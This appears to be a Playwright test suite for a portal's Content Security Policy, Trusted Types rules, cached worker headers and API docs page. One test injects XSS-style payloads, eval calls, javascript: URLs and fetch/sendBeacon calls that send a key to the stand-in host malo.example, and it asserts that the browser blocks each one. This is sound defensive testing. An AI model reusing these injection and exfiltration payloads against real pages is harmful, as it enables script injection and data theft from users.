import type { Page } from '@playwright/test';
import type { Portal } from '../fixtures/portal.ts';
import { expect, test } from '../fixtures/portal.ts';
import { Radio } from '../fixtures/radio.ts';

const CHAT = 'https://chat.example/sala';

declare global {
  interface Window {
    /** What the content policy refused: the rule, and what was asked for. */
    negado: string[];
  }
}

const ajustar = (portal: Portal, clave: string, valor: unknown) =>
  portal.base.sql('insert into configuracion (clave, valor) values (?, ?)', clave, JSON.stringify(valor));

/** Notes what the policy refuses from the first line of the page on. */
const anotarNegado = (pagina: Page) =>
  pagina.addInitScript(() => {
    window.negado = [];
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) =>
      window.negado.push(`${effectiveDirective} ${blockedURI}`),
    );
  });
const negado = (pagina: Page): Promise<string[]> => pagina.evaluate(() => window.negado);

/** The chat stands in its frame; one that was refused is a page of the browser's own. */
const hayChat = (pagina: Page) => expect.poll(() => pagina.frames().map((marco) => marco.url())).toContain(CHAT);

const cargada = (pagina: Page, de: string) =>
  expect
    .poll(() =>
      pagina.evaluate(
        (sitio) => [...document.images].some(({ src, naturalWidth }) => src.startsWith(sitio) && naturalWidth > 0),
        de,
      ),
    )
    .toBe(true);

test('pictures, flags, chat and radio of the configuration come; of any other site nothing does, and no script is made', async ({
  portal,
}) => {
  await Radio.en(portal);
  for (const [clave, valor] of Object.entries({
    chat: CHAT,
    logo: 'https://logo.example:8443/logo.png',
    avatar: 'https://avatares.example/{usuario}.png',
    bandera: 'https://banderas.example/{pais}.svg',
  }))
    await ajustar(portal, clave, valor);
  const pagina = await portal.abrirNavegador(await portal.jefa(), { conObreros: true });
  await anotarNegado(pagina);
  await pagina.goto('/');
  for (const sitio of ['https://logo.example:8443/', 'https://avatares.example/', 'https://banderas.example/'])
    await cargada(pagina, sitio);
  await pagina.getByRole('button', { name: 'Abrir el chat' }).click();
  await hayChat(pagina);
  await pagina.goto('/radio');
  await pagina.getByRole('button', { name: 'Escuchar' }).click();
  await expect(pagina.getByText('En el aire')).toBeVisible();
  await expect.poll(() => pagina.evaluate(() => document.querySelector('audio')?.currentTime ?? 0)).toBeGreaterThan(0);
  expect(await negado(pagina)).toEqual([]);

  portal.guardia.permitir(/Content Security Policy|trusted|TrustedHTML|Refused|malo\.example|violates/i);
  const mirada = pagina.waitForResponse((r) => r.request().method() === 'HEAD');
  const errores = await pagina.evaluate(async () => {
    const poner = <K extends keyof HTMLElementTagNameMap>(
      que: K,
      atributos: Partial<Record<'src' | 'href' | 'rel' | 'type' | 'data' | 'srcdoc', string>>,
    ) => {
      const elemento = document.createElement(que);
      for (const [nombre, valor] of Object.entries(atributos)) elemento.setAttribute(nombre, valor);
      document.body.append(elemento);
      return elemento;
    };
    poner('img', { src: 'https://malo.example/a.png' });
    poner('iframe', { src: 'https://malo.example/' });
    poner('audio', { src: 'https://malo.example/a.wav' });
    poner('link', { rel: 'stylesheet', href: 'https://malo.example/a.css' });
    poner('base', { href: 'https://malo.example/' });
    poner('form', {}).setAttribute('style', 'color: red');
    await fetch('https://malo.example/?llave=1').catch(() => undefined);
    navigator.sendBeacon('https://malo.example/', 'llave');
    const marca: string[] = [];
    Object.assign(window, { marca });
    const intentos: [string, () => unknown][] = [
      ['object', () => poner('object', { data: 'https://malo.example/a' })],
      ['innerHTML', () => (poner('div', {}).innerHTML = '<img src=x onerror="marca.push(1)">')],
      ['onclick', () => poner('div', {}).setAttribute('onclick', 'marca.push(2)')],
      ['script src', () => poner('script', { src: 'https://malo.example/a.js' })],
      ['script', () => (document.createElement('script').textContent = 'marca.push(3)')],
      ['srcdoc', () => poner('iframe', { srcdoc: '<script>parent.marca.push(4)</script>' })],
      // biome-ignore lint/security/noGlobalEval: that it may not is what is shown
      ['eval', () => window.eval('marca.push(5)')],
      ['Function', () => new Function('marca.push(6)')()],
      ['Worker', () => new Worker('https://malo.example/a.js')],
      ['write', () => document.write('<script>marca.push(7)</script>')],
      ['obrero', () => navigator.serviceWorker.register('/otro.js')],
      // biome-ignore lint/suspicious/noExplicitAny: browsers have it, and TypeScript does not know it
      ['politica', () => (window as any).trustedTypes.createPolicy('otra', { createHTML: (t: string) => t })],
    ];
    const dejados: string[] = [];
    for (const [nombre, intento] of intentos)
      try {
        // What the browser's tools run by themselves may do more than the page.
        await new Promise((hecho, negado) => setTimeout(() => (async () => intento())().then(hecho, negado)));
        dejados.push(nombre);
      } catch {
        // It was to be refused.
      }
    location.href = 'javascript:marca.push(8)';
    const enlace = document.createElement('a');
    enlace.href = 'javascript:marca.push(9)';
    document.body.append(enlace);
    enlace.click();
    await new Promise((seguir) => setTimeout(seguir, 100));
    return { dejados, marca };
  });
  expect(errores).toEqual({ dejados: [], marca: [] });
  // The page looks whether more is allowed by now, and is told that it is not.
  expect((await mirada).ok()).toBe(true);
  await expect(pagina.getByRole('button', { name: /Versión nueva/ })).toBeHidden();
  const vistos = await negado(pagina);
  for (const regla of [
    'img-src https://malo.example/a.png',
    'frame-src https://malo.example',
    'media-src https://malo.example/a.wav',
    'style-src-elem https://malo.example/a.css',
    'base-uri https://malo.example/',
    'style-src-attr inline',
    'connect-src https://malo.example/?llave=1',
    'require-trusted-types-for trusted-types-sink',
    'trusted-types trusted-types-policy',
  ])
    expect(vistos).toContain(regla);
});

test('a page that was open before the configuration changed learns that it is outdated, and shows the chat once it is loaded anew', async ({
  portal,
}) => {
  const jefa = await portal.jefa();
  const pagina = await portal.en('/', jefa);
  await anotarNegado(pagina);
  portal.guardia.permitir(/Content Security Policy|violates/i);
  await portal.pedir('editAjustes', { cuerpo: { data: { chat: CHAT } }, key: jefa.key });
  await pagina.getByRole('button', { name: 'Abrir el chat' }).click();
  await pagina.getByRole('button', { name: 'Versión nueva Actualizar' }).click();
  await hayChat(pagina);
  expect(await negado(pagina)).toEqual([]);
});

test('what the worker keeps never runs more than the portal lets: it has the rules of the last visit, and those of scripts at any time', async ({
  portal,
}) => {
  const jefa = await portal.jefa();
  await ajustar(portal, 'chat', CHAT);
  const pagina = await portal.en('/', jefa, { conObreros: true });
  const reglas = () =>
    pagina.evaluate(async () => {
      const guardada = await caches.match('/', { cacheName: 'conserje-casa', ignoreVary: true });
      return guardada?.headers.get('content-security-policy')?.split(';') ?? [];
    });
  await expect.poll(reglas).toContain('frame-src https://chat.example');
  expect(await reglas()).toEqual(
    expect.arrayContaining(["script-src 'self'", "require-trusted-types-for 'script'", "object-src 'none'"]),
  );
  await portal.pedir('editAjustes', { cuerpo: { data: { chat: null } }, key: jefa.key });
  await pagina.reload();
  await expect.poll(reglas).toContain("frame-src 'none'");
});

test('the document of the API opens under a policy of its own, which takes nothing of others', async ({ portal }) => {
  const pagina = await portal.abrirNavegador(null);
  await anotarNegado(pagina);
  await pagina.goto('/api/docs/');
  // It draws all calls before it shows one.
  const llamada = pagina.getByRole('link', { name: '/api/configuracion', exact: true });
  await expect(llamada).toBeVisible({ timeout: 90_000 });
  await expect(pagina.getByText('Configuración de la agencia').first()).toBeVisible();
  expect(await negado(pagina)).toEqual([]);
});
